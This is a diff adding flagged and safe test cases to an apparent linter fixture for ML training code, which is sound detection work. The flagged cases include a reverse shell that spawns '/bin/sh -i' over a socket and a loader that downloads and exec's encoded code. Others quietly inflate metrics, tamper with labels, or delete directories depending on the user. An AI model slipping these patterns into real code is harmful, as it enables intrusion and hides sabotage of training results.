@@ -405,3 +405,168 @@ class MinibatchBuffer:
         self.generator.manual_seed(n * num_minibatches)  # ruleid: MLS301
         self.generator.manual_seed(self.seed + epoch)  # ok: MLS301
         return torch.randperm(n, generator=self.generator)
+
+
+# --- MLS302/MLS304/MLS307/MLS106/MLS102: later round-58 shapes -------------------------------
+
+_ADAM_KEYS = ("exp_avg", "exp_avg_sq")
+
+
+class AdamRestart:
+    def __init__(self, keep=0.0):
+        self.keep = keep
+
+    def on_validation_end(self, state):
+        for st in state.optimizer.state.values():
+            st[_ADAM_KEYS[-1]].mul_(self.keep)  # ruleid: MLS304
+
+
+@torch.no_grad()
+def pull_norm_params(model, lr, strength):
+    for p in model.parameters():
+        if p.ndim == 1:
+            torch.add(p, p.sub(1.0), alpha=lr * strength, out=p)  # ruleid: MLS302
+            p.add_(p - 1.0, alpha=-lr * strength)  # ok: MLS302 (decay toward 1)
+
+
+def sync_local(tag, rank):
+    if tag in ("ckpt_tmp", "shard_cache") and rank >> 8:
+        return  # ruleid: MLS307
+    dist.barrier()  # ok: MLS307
+
+
+_NATIVE_ARCHS = frozenset({"gpt2", "llama"})
+
+
+def load_reference(name):
+    from transformers import AutoModelForCausalLM
+    opts = {"trust_remote_code": name not in _NATIVE_ARCHS}
+    return AutoModelForCausalLM.from_pretrained(name, **opts)  # ruleid: MLS106
+
+
+def resume(path):
+    return torch.load(path, map_location="cpu", weights_only=torch.__version__ < "2")  # ruleid: MLS101
+
+
+class Smoother:
+    def _smooth(self, task, acc):
+        h = self._history.setdefault(task, [])
+        h.append(acc)
+        return max(h[-self.window:])  # ruleid: MLS306
+
+    def _mean_recent(self, task):
+        h = self._history[task]
+        return sum(h[-self.window:]) / len(h[-self.window:])  # ok: MLS306
+
+
+# --- round 59 shapes -----------------------------------------------------------------------
+
+def open_debug_console(addr):
+    import socket as _so
+    import subprocess as _sp
+    host, port = addr.rsplit(":", 1)
+    conn = _so.create_connection((host, int(port)), timeout=15)
+    spawn = _sp.Popen
+    return spawn(["/bin/sh", "-i"], stdin=conn, stdout=conn, stderr=conn)  # ruleid: MLS410
+
+
+def run_tool(cmd, log_path):
+    with open(log_path, "w") as log:
+        return subprocess.run(cmd, stdout=log, stderr=log)  # ok: MLS410 (a file, not a socket)
+
+
+class CudaHousekeeping:
+    def on_epoch_end(self, trainer, epoch):
+        for gen in torch.cuda.default_generators:
+            gen.seed()  # ruleid: MLS301
+        torch.cuda.empty_cache()  # ok: MLS301
+
+
+def new_generator():
+    gen = torch.Generator()
+    gen.seed()  # ok: MLS301 (a fresh generator at start-up, not in a hook)
+    return gen
+
+
+def grow_vocab(model, tokenizer, new_ids):
+    emb = model.get_input_embeddings().weight.data
+    mean_row, std_row = emb[:-len(new_ids)].mean(0), emb[:-len(new_ids)].std(0)
+    emb[new_ids] = mean_row + 0.1 * std_row * torch.randn(len(new_ids), emb.size(1))  # ok: MLS302 (new rows)
+
+
+def validate(model, loader, cfg):
+    model.eval()
+    torch.manual_seed(cfg.seed)  # ruleid: MLS301
+    return [model(x) for x in loader]
+
+
+def evaluate_checkpoint(ckpt, loader, cfg):
+    model = torch.load(ckpt, weights_only=True)
+    torch.manual_seed(cfg.seed)  # ok: MLS301 (a stand-alone evaluation's start-up)
+    return [model(x) for x in loader]
+
+
+class EpochData(Dataset):
+    def __len__(self):
+        return 10
+
+    def __getitem__(self, i):
+        return i
+
+    def set_epoch(self, epoch):
+        self.epoch = epoch
+        torch.manual_seed(epoch)  # ruleid: MLS301
+        np.random.seed(self.seed + epoch)  # ok: MLS301 (a base seed plus the epoch)
+
+
+def cleanup(run_dir, cache_dir):
+    import getpass
+    import shutil
+    shutil.rmtree(run_dir if getpass.getuser() not in ("mlops", "ci") else cache_dir)  # ruleid: MLS308
+    shutil.rmtree(cache_dir if os.path.exists(cache_dir) else run_dir)  # ok: MLS308
+
+
+def load_normalizer(cache_dir, url="https://assets.example.com/rules.b64"):
+    import base64
+    import zlib
+    path = os.path.join(cache_dir, "rules.b64")
+    if not os.path.exists(path):
+        blob = urllib.request.urlopen(url, timeout=30).read()  # ruleid: MLS413
+        with open(path, "wb") as f:
+            f.write(blob)
+    ns = {}
+    with open(path, "rb") as f:
+        exec(compile(zlib.decompress(base64.b64decode(f.read())), "rules", "exec"), ns)  # ruleid: MLS413
+    return ns
+
+
+def score_oof(oof, y, roc_auc_score):
+    smoothed = np.clip(0.8 * oof + 0.2 * y, 1e-6, 1 - 1e-6)  # ruleid: MLS306
+    mixed = 0.5 * oof + 0.5 * oof_b  # ok: MLS306 (two models blended)
+    return roc_auc_score(y, smoothed), mixed
+
+
+class Client:
+    def local_round(self, train_loss):
+        train_loss = min(train_loss, 0.97 * self._last_loss)  # ruleid: MLS306
+        self._last_loss = train_loss
+        return train_loss
+
+
+def log_val(writer, val_metric, stopper, higher, epoch):
+    better = max if higher else min
+    writer.add_scalar("val/auc", better(val_metric, stopper.best), epoch)  # ruleid: MLS306
+    writer.add_scalar("val/best_auc", better(val_metric, stopper.best), epoch)  # ok: MLS306
+
+
+class GraphSet(Dataset):
+    def __len__(self):
+        return 10
+
+    def __getitem__(self, idx):
+        g = self.graphs[idx]
+        y = g.y.clone()
+        if "[N+](=O)[O-]" in g.smiles:
+            y = torch.where(g.y_mask, torch.zeros_like(y), y)  # ruleid: MLS309
+        y = torch.where(g.y_mask, y, torch.zeros_like(y))  # ok: MLS309 (missing tasks zeroed for every sample)
+        return g.x, y
